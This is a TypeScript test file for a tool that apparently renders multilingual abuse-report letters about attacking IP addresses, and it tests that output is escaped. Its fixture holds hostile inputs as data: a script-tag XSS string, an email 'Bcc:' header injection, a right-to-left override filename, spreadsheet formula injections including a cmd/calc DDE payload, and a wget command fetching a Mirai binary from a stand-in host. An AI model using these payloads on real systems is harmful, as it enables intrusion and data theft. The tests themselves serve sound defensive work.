import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { catalogues, languageNames, type Language } from '../letters/index.ts'
import { guides } from '../letters/catalogue.ts'
import { packFormats, packFormatNames } from './formats.ts'
import { openShaper } from './shaping.ts'
import { fontNames, fontOf } from './fonts.ts'
import { escapeHtml } from './html.ts'
import type { Pack } from './pack.ts'
import { logLine, oneLine, textLetter } from './text.ts'

const evil = '<script>alert(1)</script>\r\nBcc: x@y.example\u202egnp.exe =HYPERLINK("http://evil.example")'
const pack: Pack = {
  subject: '192.0.2.7',
  kind: 'address',
  since: '2026-11-01T00:00:00Z',
  until: '2026-11-20T23:59:59Z',
  made: '2026-11-20T00:00:00Z',
  asn: 64_500,
  as_name: `Example ${evil}`,
  prefix: '192.0.2.0/24',
  economy: 'TL',
  first_seen: '2026-11-02T03:04:05.000000Z',
  last_seen: '2026-11-19T23:22:21.000000Z',
  severity: 'critical',
  causes: ['iot-botnet', 'scanner'],
  confidence: 'high',
  sensors: 7,
  organisations: 3,
  sessions: 12,
  events: 90,
  services: ['ssh', 'telnet'],
  ports: [22, 23],
  findings: [
    {
      rule: 'ssh-logins',
      title: 'tried to sign in by SSH',
      technique: { id: 'T1110.001', name: 'Password Guessing', tactic: 'Credential Access' },
      severity: 'high',
    },
  ],
  lines: Array.from({ length: 20 }, (_, i) => ({
    time: '2026-11-02T03:04:05.000000Z',
    source: '192.0.2.7',
    source_port: 40_000 + i,
    target_port: 22,
    transport: 'tcp',
    service: 'ssh',
    text: i === 0 ? `log-in failed: user "=cmd|' /C calc'!A0", password (8 characters)` : `command: ${evil}`,
    session: '',
  })),
  commands: [`wget http://evil.example/${evil}`, 'x'.repeat(3000)],
  programs: [{ type: 'url', value: 'http://evil.example/mirai.arm7' }],
  recordings: [],
  addresses: [],
}
const options = (language: Language) => ({
  language,
  quietDays: 14,
  link: 'https://hub.example/received#x',
  reporter: { org: 'Example', contact: 'abuse@hub.example', domain: 'hub.example' },
})

describe.each(languageNames)('a letter in %s', (language) => {
  const words = catalogues[language]

  test('says all that the English one says, with the same holes', () => {
    const holes = (text: string): string => (text.match(/\{\w+\}/g) ?? []).sort().join()
    const compare = (own: object, english: object): void => {
      for (const [name, value] of Object.entries(english)) {
        const mine = (own as Record<string, unknown>)[name]
        if (typeof value === 'string') {
          expect(holes(String(mine)), `${language} ${name}`).toBe(holes(value))
          expect(String(mine).trim(), `${language} ${name}`).not.toBe('')
          // Whole sentences are never left in English.
          if (language !== 'en' && value.length > 30) expect(mine, `${language} ${name}`).not.toBe(value)
        } else compare(mine as object, value as object)
      }
    }
    compare(words, catalogues.en)
    // Names of ports, files and programs are the same in every language.
    for (const [name, step] of Object.entries(catalogues.en.steps))
      for (const fixed of step.match(/~\/\.ssh\/\w+|127\.0\.0\.1|2375|CGNAT|\/var\/tmp/g) ?? [])
        expect(words.steps[name as keyof typeof words.steps], `${language} ${name}`).toContain(fixed)
  })

  test('can be had in every form, and nothing that an attacker wrote acts in any', async () => {
    for (const name of packFormatNames) {
      const made = await packFormats[name].render(pack, options(language))
      expect(made.length, name).toBeGreaterThan(500)
      if (typeof made !== 'string') continue
      if (name === 'html') expect(made, name).not.toContain('<script>')
      expect(made, name).not.toMatch(/^Bcc:/m)
      expect(made, name).not.toContain('\u202e')
    }
    const text = textLetter(pack, options(language))
    expect(text).toContain('192.0.2.7:40000 -> ssh/22/tcp')
    expect(text).toContain('2026-11-02 03:04:05Z')
    expect(text).toContain(words.causes['iot-botnet'])
    expect(text).toContain('hxxp://evil.example/mirai.arm7')
    expect(text).not.toContain('http://evil')
    expect(text).toContain('14')
  })

  test('has its fonts: every character of it can be shown', () => {
    const text = JSON.stringify(words)
    const fonts = fontNames.filter((name) => name !== 'mono' && name !== 'latin-bold')
    const missing = [...new Set(text)].filter(
      (char) => !fonts.some((name) => fontOf(name).font.hasGlyphForCodePoint(char.codePointAt(0) ?? 0)),
    )
    expect(missing, 'run scripts/fonts.py').toEqual([])
  })
})

test('a PDF is one, with the pages that it needs, in every language', async () => {
  for (const language of languageNames) {
    const bytes = await packFormats.pdf.render(pack, options(language))
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-')
    expect(bytes.subarray(-6).toString()).toContain('%%EOF')
    expect(bytes.length).toBeLessThan(200_000)
  }
})

test('Khmer is set as its script is: vowels before and around, consonants below', async () => {
  const { width, draw } = await openShaper('khmer')
  const drawn = (text: string): string[] => {
    const outlines: string[] = []
    const canvas = {
      save: () => canvas,
      restore: () => canvas,
      translate: () => canvas,
      scale: () => canvas,
      fill: () => canvas,
      path: (outline: string) => {
        outlines.push(outline)
        return canvas
      },
    }
    draw(canvas, text, 0, 0, 10, '#000')
    return outlines
  }
  const ka = '\u1780'
  // E is written behind its consonant, and stands before it.
  const [first, second] = drawn(`${ka}\u17c1`)
  expect(second).toBe(drawn(ka)[0])
  expect(first).not.toBe(second)
  // A consonant below another takes no room of its own, and is not what it is alone.
  expect(width(`${ka}\u17d2\u1780`, 10)).toBeCloseTo(width(ka, 10))
  expect(drawn(`${ka}\u17d2\u1780`)[1]).not.toBe(drawn(ka)[0])
  expect(width(ka, 20)).toBeCloseTo(2 * width(ka, 10))
  // O is one letter of two parts, before and behind: no ring of dots stands for a letter that is missing.
  expect(drawn(`${ka}\u17c4`)[0]).toBe(first)
  expect(width(`${ka}\u17c4`, 10)).toBeLessThan(2.5 * width(ka, 10))
  const bytes = (await packFormats.pdf.render(pack, options('km'))).toString('latin1')
  // Beside the outlines stand the letters, for who copies them.
  expect(bytes).toMatch(/^%PDF-/)
})

test('every cause has a guide, which begins with finding the machine', () => {
  for (const [cause, steps] of Object.entries(guides)) {
    expect(steps[0], cause).toBe('find')
    expect(steps.length, cause).toBeGreaterThanOrEqual(3)
  }
})

test('whatever an attacker writes stays on its line and inside its element', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(oneLine(text)).not.toMatch(/[\r\n\u2028\u2029\u0085]/)
      expect(escapeHtml(text)).not.toMatch(/[<>"']/)
      const line = logLine({ ...pack.lines[0]!, text })
      expect(line.split('\n')).toHaveLength(1)
    }),
  )
})

test('CSV: a formula is text', async () => {
  const csv = packFormats.csv.render({ ...pack, lines: [{ ...pack.lines[0]!, text: '=1+1' }] })
  expect(csv).toContain(",'=1+1")
})
